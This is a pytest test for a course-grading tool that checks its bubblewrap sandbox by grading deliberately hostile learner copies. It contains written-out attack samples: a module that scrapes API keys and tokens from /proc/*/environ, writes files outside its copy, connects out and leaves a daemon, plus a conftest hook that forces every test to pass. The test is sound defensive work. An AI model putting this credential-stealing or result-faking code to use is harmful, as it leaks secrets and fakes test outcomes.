"""``grade 05`` on a class of hostile copies, in bubblewrap: every row right, nothing reaches outside.

The copies are written here: a conftest hook that passes every test, a deleted beyond file, the
reference copied over the lesson files, a module-level print that looks like an answer, a deleted
lesson file (named as the cause, not the module importing it), and a
module that at import tries to read the instructor's secret from its ancestors'
``/proc/*/environ``, write outside its copy and into ``HOME``, connect to a loopback port this
test listens on, and leave a ``setsid`` daemon holding its output open. Afterwards: each row and
flag is right, the listener saw no connection, no daemon is alive, nothing outside the copies
changed, and the secret is in no output.
"""

from __future__ import annotations

import json
import os
import select
import shutil
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from learners import copy_of, mistake, tree_digest

from pi_course.course.running.sandbox import choose

pytestmark = [pytest.mark.slow, pytest.mark.workflow]  # a whole hostile class, graded in the sandbox
ROOT = Path(__file__).parents[2]
CLASS_BOUND = 900  # a hang bound on the whole grade run, never a speed target

if shutil.which("bwrap") is None or not choose("auto").sandboxed:
    pytest.skip(
        "bubblewrap is not installed (or cannot run here): apt-get install bubblewrap",
        allow_module_level=True,
    )


CHEAT_CONFTEST = """
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    report.longrepr = None
    return report
"""


def hostile_module(token: str, port: int, outside: Path) -> str:
    """What the hostile learner appends to transport.py: it runs at every import."""
    return f'''

def _mischief():  # a learner's code, run at import time
    import glob, os, socket, subprocess, sys
    found = []
    for name in glob.glob("/proc/*/environ"):
        try:
            with open(name, "rb") as file:
                data = file.read()
        except OSError:
            continue
        if b"PI_COURSE_API_KEY" in data or b"GH_TOKEN" in data:
            found.append(data.decode("utf-8", "replace"))
    print("FOUND:", found, flush=True)
    for target in ({str(outside / "pwned")!r}, os.path.expanduser("~/pwned-{token}"),
                   os.path.join({str(ROOT / "pi_course")!r}, "pwned-{token}")):
        try:
            with open(target, "w") as file:
                file.write("pwned")
        except OSError as error:
            print("no write:", target, error, flush=True)
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hello")
    except OSError as error:
        print("no connection:", error, flush=True)
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{token}"],
                     start_new_session=True)  # a daemon holding the output open


_mischief()
'''


def daemons(token: str) -> list[int]:
    """Processes (not zombies) whose command line carries ``token``."""
    alive = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            cmdline = (proc / "cmdline").read_bytes()
            state = (proc / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if token.encode() in cmdline and state != "Z" and int(proc.name) != os.getpid():
            alive.append(int(proc.name))
    return alive


def test_a_hostile_class_is_graded_right_and_reaches_nothing(tmp_path: Path) -> None:
    token = f"pi-course-hostile-{uuid.uuid4().hex}"
    secret = f"sk-{uuid.uuid4().hex}"
    outside = tmp_path / "outside"
    outside.mkdir()
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    starter = tmp_path / "starter"
    made = subprocess.run(
        [sys.executable, "-m", "pi_course", "practice", "05", str(starter)], capture_output=True, text=True,
        timeout=300, check=False,
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    course = tmp_path / "class"
    course.mkdir()

    def learner(name: str, solution: str | None) -> Path:
        return copy_of(starter, course / name, solution)

    learner("honest", "ada")
    cheat = learner("conftest-cheat", None)
    with (cheat / "tests" / "conftest.py").open("a", encoding="utf-8") as conftest:
        conftest.write(CHEAT_CONFTEST)
    deleted = learner("beyond-deleted", "ada")
    mistake(deleted, "transport.py",
            "failure = ProviderTransportError(self._key.redact(str(error) or type(error).__name__))",
            "raise ProviderTransportError(self._key.redact(str(error) or type(error).__name__)) from None")  # fmt: skip
    (deleted / "tests" / "test_05_beyond.py").unlink()
    copied = learner("reference-copied", None)
    for module in (copied / "pi_course" / "course" / "target-05").glob("*.py"):
        shutil.copyfile(module, copied / "pi_course" / module.name)
    prints = learner("prints-at-import", "ada")
    with (prints / "pi_course" / "outbound.py").open("a", encoding="utf-8") as module:
        module.write('\nprint(\'["pi_course 没有导出 ToolDefinition"]\')\nprint("[]")\n')
    (learner("transport-deleted", "ada") / "pi_course" / "transport.py").unlink()
    hostile = learner("hostile", "ada")
    with (hostile / "pi_course" / "transport.py").open("a", encoding="utf-8") as module:
        module.write(hostile_module(token, port, outside))

    before = {"class": tree_digest(course), "outside": tree_digest(outside)}
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, "PI_COURSE_API_KEY": secret, "GH_TOKEN": secret, "OPENAI_API_KEY": secret}
    try:
        result = subprocess.run(
            [sys.executable, "-m", "pi_course", "grade", "05", str(course), "--sandbox", "bwrap", "--jobs", "2",
             "--json", str(out / "class.json"), "--csv", str(out / "class.csv"), "--html", str(out / "class.html")],
            cwd=tmp_path, env=env, capture_output=True, text=True, timeout=CLASS_BOUND, check=False,
        )  # fmt: skip
        assert result.returncode == 0, result.stdout + result.stderr
        # The listener saw no connection: nothing is waiting to be accepted.
        assert select.select([listener], [], [], 0)[0] == []
    finally:
        listener.close()
    assert daemons(token) == []

    records = {item["name"]: item for item in json.loads((out / "class.json").read_text(encoding="utf-8"))}
    full = {"5.1": [1, 1], "5.2": [3, 3], "5.3": [5, 5], "5.4": [2, 2]}
    for name in ("honest", "prints-at-import", "hostile"):
        assert records[name]["status"] == "done", records[name]
        assert records[name]["focused"] == full and records[name]["flags"] == []
    assert records["reference-copied"]["status"] == "done"
    assert records["reference-copied"]["flags"] == ["matches-reference"]
    cheat_row = records["conftest-cheat"]
    assert cheat_row["status"] == "incomplete" and cheat_row["focused_passed"] == 0
    assert cheat_row["flags"] == ["tests-modified"]
    deleted_row = records["beyond-deleted"]
    assert deleted_row["status"] == "incomplete" and deleted_row["focused"] == full
    assert deleted_row["flags"] == ["tests-modified"]
    assert 0 < deleted_row["beyond_passed"] < deleted_row["beyond_total"]
    assert "test_key_stays_out_of_every_error_chain" in deleted_row["first_failure"]

    missing = records["transport-deleted"]
    assert missing["status"] == "import-error"
    assert missing["first_failure"] == "副本里没有 pi_course/transport.py：pi_course 无法导入。"

    assert {"class": tree_digest(course), "outside": tree_digest(outside)} == before
    assert not (Path.home() / f"pwned-{token}").exists()
    assert not (ROOT / "pi_course" / f"pwned-{token}").exists()
    written = [result.stdout, result.stderr, *(path.read_text(encoding="utf-8") for path in out.iterdir())]
    assert all(secret not in text for text in written)
